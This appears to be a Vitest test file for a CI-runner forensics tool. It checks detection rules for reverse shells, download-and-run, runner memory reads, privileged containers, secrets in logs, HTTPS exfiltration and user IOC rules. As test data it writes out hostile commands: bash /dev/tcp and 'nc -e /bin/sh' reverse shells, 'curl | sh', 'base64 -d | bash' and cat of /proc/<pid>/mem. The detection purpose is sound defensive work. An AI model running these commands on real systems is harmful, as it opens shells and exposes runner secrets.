/**
 * Local detections (electron/analysis/detections/): each rule on a real case file after the whole analysis
 * (finalizeCase), a positive AND a near miss per rule, plus a user rule and an IOC list from a rules file.
 */
import { afterEach, describe, expect, it } from 'vitest';
import type { Db } from '../../electron/db/open';
import { parseRulesText, RulesFileError } from '../../electron/analysis/detections/rules-file';
import { at, call, exec, meta, newCase, step, type TestCase } from './analysis-case';

let c: TestCase;
afterEach(() => c?.close());

interface F {
  id: number;
  kind: string;
  severity: string;
  rule: string | null;
  title: string;
  endpoint: string | null;
  process_id: number | null;
  step_id: number | null;
}
const found = (db: Db, rule: string): F[] =>
  db.prepare('SELECT id, kind, severity, rule, title, endpoint, process_id, step_id FROM findings WHERE rule = ? ORDER BY id').all(rule) as F[];
const evidence = (db: Db, f: F) =>
  db.prepare('SELECT tbl, row_id FROM finding_evidence WHERE finding_id = ? ORDER BY tbl, row_id').all(f.id) as { tbl: string; row_id: number }[];

function logLine(db: Db, n: number, text: string, ts: bigint, stepNumber = 1): void {
  db.prepare(
    `INSERT INTO log_lines (job, step_number, seq, ts, raw, text, file_kind, line) VALUES ('test', ?, ?, ?, ?, ?, 'step', ?)`,
  ).run(stepNumber, n, ts, text, text, n);
}
function fileEvent(db: Db, o: { ts: bigint; pid: number | null; path: string; op: string; exe?: string; sha256?: string }): number {
  return Number(
    db.prepare('INSERT INTO file_events (ts, pid, exe, path, op, sha256, raw) VALUES (?, ?, ?, ?, ?, ?, ?)').run(
      o.ts, o.pid, o.exe ?? null, o.path, o.op, o.sha256 ?? null, '{}',
    ).lastInsertRowid,
  );
}

/** A worker (pid 100) with one step and a few processes under it running `cmds` (pid 200, 201 …). */
function withProcesses(cmds: string[][]): Db {
  c = newCase();
  const { db } = c;
  step(db, { number: 1, name: 'Run build', start: at(0), end: at(100) });
  exec(db, { ts: at(0.5), pid: 100, ppid: 1, exe: '/home/runner/actions-runner/cached/bin/Runner.Worker', args: ['/home/runner/actions-runner/cached/bin/Runner.Worker', 'spawnclient'] });
  cmds.forEach((args, i) => exec(db, { ts: at(1 + i), pid: 200 + i, ppid: 100, exe: `/usr/bin/${args[0]}`, args }));
  return db;
}

describe('reverse-shell', () => {
  it('flags bash -i >& /dev/tcp, nc -e and a python socket one-liner, in processes and in log lines', () => {
    const db = withProcesses([
      ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
      ['nc', '-e', '/bin/sh', '198.51.100.7', '9001'],
      ['python3', '-c', 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.9",4444))'],
    ]);
    logLine(db, 1, "python -c 'import socket; s=socket.socket()'", at(2));
    c.finalize();
    const f = found(db, 'reverse-shell');
    expect(f.filter((x) => x.process_id !== null)).toHaveLength(3);
    expect(f.every((x) => x.severity === 'critical' && x.kind === 'reverse-shell')).toBe(true);
    expect(f.map((x) => x.title).join('\n')).toMatch(/Python one-liner opening a raw socket/);
    const logHit = f.find((x) => x.process_id === null)!;
    expect(evidence(db, logHit)[0]!.tbl).toBe('log_lines');
    expect(evidence(db, f[0]!)).toEqual([{ tbl: 'processes', row_id: f[0]!.process_id }]);
  });
  it('near miss: nc -z (port check), python -c import json, > /dev/null', () => {
    const db = withProcesses([['nc', '-z', 'registry.example.org', '443'], ['python3', '-c', 'import json; print(1)'], ['bash', '-c', 'make > /dev/null 2>&1']]);
    logLine(db, 1, 'echo "socket closed" > /dev/null', at(2));
    c.finalize();
    expect(found(db, 'reverse-shell')).toEqual([]);
  });
});

describe('download-and-run', () => {
  it('flags curl | sh (medium) and base64 -d | bash (high)', () => {
    const db = withProcesses([['sh', '-c', 'curl -sSfL https://get.example/install.sh | sh'], ['bash', '-c', 'echo ZWNobyBoaQ== | base64 -d | bash']]);
    c.finalize();
    const f = found(db, 'download-and-run');
    expect(f.map((x) => x.severity).sort()).toEqual(['high', 'medium']);
  });
  it('near miss: curl -o file, curl | jq, base64 -d to a file', () => {
    const db = withProcesses([['sh', '-c', 'curl -sSfL -o install.sh https://get.example/install.sh'], ['sh', '-c', 'curl -s https://api.example/x | jq .'], ['sh', '-c', 'base64 -d key.b64 > key.bin']]);
    c.finalize();
    expect(found(db, 'download-and-run')).toEqual([]);
  });
});

describe('runner-memory', () => {
  it("flags reads of the worker's /proc/<pid>/mem and maps (command and file event)", () => {
    const db = withProcesses([['python3', 'memdump.py', '/proc/100/maps'], ['cat', '/proc/100/mem']]);
    fileEvent(db, { ts: at(5), pid: 201, path: '/proc/100/mem', op: 'read', exe: '/usr/bin/cat' });
    c.finalize();
    const f = found(db, 'runner-memory');
    expect(f.length).toBe(3);
    expect(f.every((x) => x.kind === 'runner-memory-read' && x.severity === 'critical')).toBe(true);
    expect(f.some((x) => evidence(db, x).some((e) => e.tbl === 'file_events'))).toBe(true);
  });
  it('near miss: /proc/self/maps, maps of another pid, /proc/100/status', () => {
    const db = withProcesses([['cat', '/proc/self/maps'], ['cat', '/proc/200/maps'], ['cat', '/proc/100/status']]);
    fileEvent(db, { ts: at(5), pid: 201, path: '/proc/200/mem', op: 'read' });
    c.finalize();
    expect(found(db, 'runner-memory')).toEqual([]);
  });
});

describe('privileged-container', () => {
  it('flags docker run --privileged and a mount of the host root', () => {
    const db = withProcesses([['docker', 'run', '--rm', '--privileged', 'alpine', 'sh'], ['docker', 'run', '-v', '/:/host', 'alpine']]);
    c.finalize();
    expect(found(db, 'privileged-container').map((x) => x.title)).toEqual([
      expect.stringMatching(/^privileged container/),
      expect.stringMatching(/host's root mounted/),
    ]);
  });
  it('near miss: --privileged=false, a workspace mount, docker build', () => {
    const db = withProcesses([['docker', 'run', '--privileged=false', 'alpine'], ['docker', 'run', '-v', '/home/runner/work/app/app:/src', 'alpine'], ['docker', 'build', '.']]);
    c.finalize();
    expect(found(db, 'privileged-container')).toEqual([]);
  });
});

describe('sudo', () => {
  it('flags a process run through sudo (low)', () => {
    const db = withProcesses([['sudo', 'apt-get', 'install', '-y', 'jq']]);
    c.finalize();
    expect(found(db, 'sudo')).toMatchObject([{ kind: 'sudo', severity: 'low', title: 'sudo: sudo apt-get install -y jq' }]);
  });
  it('near miss: sudoku, pseudo', () => {
    const db = withProcesses([['sudoku', '--solve'], ['pseudo', 'x']]);
    c.finalize();
    expect(found(db, 'sudo')).toEqual([]);
  });
});

describe('source-overwrite', () => {
  function checkoutCase(): Db {
    c = newCase();
    const { db } = c;
    step(db, { number: 1, name: 'Run actions/checkout@v4', uses: 'actions/checkout@v4', start: at(0), end: at(10) });
    step(db, { number: 2, name: 'Run make', start: at(10), end: at(50) });
    exec(db, { ts: at(1), pid: 300, exe: '/usr/bin/git', args: ['git', 'checkout'] });
    exec(db, { ts: at(20), pid: 400, exe: '/usr/bin/sed', args: ['sed', '-i', 's/a/b/', 'src/main.go'] });
    fileEvent(db, { ts: at(2), pid: 300, path: '/home/runner/work/app/app/src/main.go', op: 'write', exe: '/usr/bin/git' });
    return db;
  }
  it('flags a source file the checkout wrote, rewritten later (high)', () => {
    const db = checkoutCase();
    fileEvent(db, { ts: at(21), pid: 400, path: '/home/runner/work/app/app/src/main.go', op: 'write', exe: '/usr/bin/sed' });
    c.finalize();
    const f = found(db, 'source-overwrite');
    expect(f).toMatchObject([{ kind: 'source-overwrite', severity: 'high' }]);
    expect(f[0]!.title).toContain('src/main.go');
  });
  it("near miss: the checkout's own writes, a new file in src/, node_modules, dist, .git/config, /tmp", () => {
    const db = checkoutCase();
    for (const p of ['src/generated.go', 'node_modules/x/index.js', 'dist/app.js', '.git/config']) {
      fileEvent(db, { ts: at(22), pid: 400, path: `/home/runner/work/app/app/${p}`, op: 'write' });
    }
    fileEvent(db, { ts: at(22), pid: 400, path: '/tmp/x', op: 'write' });
    c.finalize();
    expect(found(db, 'source-overwrite')).toEqual([]);
  });
});

describe('secrets-in-logs', () => {
  it('flags a GitHub token and an Authorization header printed in a log', () => {
    c = newCase();
    const { db } = c;
    step(db, { number: 1, name: 'Run env', start: at(0), end: at(10) });
    logLine(db, 1, `GH=ghp_${'a1B2c3D4e5'.repeat(3)}abcdef`, at(1));
    logLine(db, 2, 'curl -H "Authorization: Bearer abcdefghijklmnop123" https://api.example', at(2));
    c.finalize();
    const f = found(db, 'secrets-in-logs');
    expect(f.map((x) => x.title).sort()).toEqual([
      expect.stringMatching(/^GitHub token printed in the log of step 1 Run env/),
      expect.stringMatching(/^credential in an Authorization header/),
    ]);
    expect(f.every((x) => x.kind === 'secret-in-log' && x.severity === 'high')).toBe(true);
  });
  it("near miss: GitHub's *** mask, a short ghp_ prefix", () => {
    c = newCase();
    const { db } = c;
    logLine(db, 1, 'token: ***', at(1));
    logLine(db, 2, 'AUTHORIZATION: basic ***', at(2));
    logLine(db, 3, 'see ghp_short for details', at(3));
    c.finalize();
    expect(found(db, 'secrets-in-logs')).toEqual([]);
  });
});

describe('https-exfiltration', () => {
  function exfilCase(method: string, domain: string, status = 'allowed'): Db {
    c = newCase();
    const { db } = c;
    meta(db, 'policy', { egress_policy: 'audit', allowed_endpoints: ['github.com:443'] });
    const id = call(db, { ts: at(1), domain, status });
    db.prepare('UPDATE network SET http_method = ?, http_path = ? WHERE id = ?').run(method, '/collect', id);
    return db;
  }
  it('flags a POST outside the allow-list', () => {
    const db = exfilCase('POST', 'telemetry.exfil.example');
    c.finalize();
    expect(found(db, 'https-exfiltration')).toMatchObject([{ endpoint: 'telemetry.exfil.example:443', severity: 'high' }]);
  });
  it.each([
    ['GET', 'telemetry.exfil.example', 'allowed'],
    ['POST', 'github.com', 'allowed'],
    ['POST', 'telemetry.exfil.example', 'blocked'],
  ])('near miss: %s to %s (%s)', (m, d, s) => {
    const db = exfilCase(m, d, s);
    c.finalize();
    expect(found(db, 'https-exfiltration')).toEqual([]);
  });
});

describe('rules file', () => {
  it('a user rule raises a finding', () => {
    const db = withProcesses([['wget', 'https://files.example/tool.tgz'], ['tar', 'xzf', 'tool.tgz']]);
    const spec = parseRulesText('rules:\n  - id: no-wget\n    title: wget in a build\n    severity: high\n    command: "\\\\bwget\\\\b"\n', 'rules.yml');
    meta(db, 'rules', { path: 'rules.yml', sha256: 'x', bytes: 1, spec });
    c.finalize();
    const f = found(db, 'user:no-wget');
    expect(f).toMatchObject([{ kind: 'user-rule', severity: 'high' }]);
    expect(f[0]!.title).toMatch(/^wget in a build: wget https/);
  });
  it('an IOC list (domain, CIDR, hash) raises findings; other values do not', () => {
    c = newCase();
    const { db } = c;
    call(db, { ts: at(1), domain: 'c2.bad.example', ip: '192.0.2.10' });
    call(db, { ts: at(2), ip: '198.51.100.77' });
    call(db, { ts: at(3), domain: 'fine.example', ip: '203.0.113.1' });
    fileEvent(db, { ts: at(4), pid: null, path: '/tmp/x', op: 'write', sha256: 'AB'.repeat(32) });
    const spec = parseRulesText(JSON.stringify({ iocs: { domains: ['*.bad.example'], cidrs: ['198.51.100.0/24'], hashes: ['ab'.repeat(32)], ips: ['192.0.2.99'] } }), 'iocs.json');
    meta(db, 'rules', { path: 'iocs.json', sha256: 'x', bytes: 1, spec });
    c.finalize();
    const titles = found(db, 'ioc').map((x) => x.title).sort();
    expect(titles).toEqual([
      'IOC address 198.51.100.0/24 (1 record)',
      'IOC domain *.bad.example (1 record)',
      `IOC hash ${'ab'.repeat(32)} (1 record)`,
    ]);
  });
  it('a bad rules file is an error naming the file and the entry', () => {
    expect(() => parseRulesText('rules:\n  - id: x\n', 'r.yml')).toThrow(RulesFileError);
    expect(() => parseRulesText('rules:\n  - id: x\n    command: "("\n', 'r.yml')).toThrow(/r\.yml: rules\.0\.command: not a valid regular expression/);
    expect(() => parseRulesText('rules: [\n', 'r.yml')).toThrow(/^r\.yml:\d+: cannot read/);
  });
});
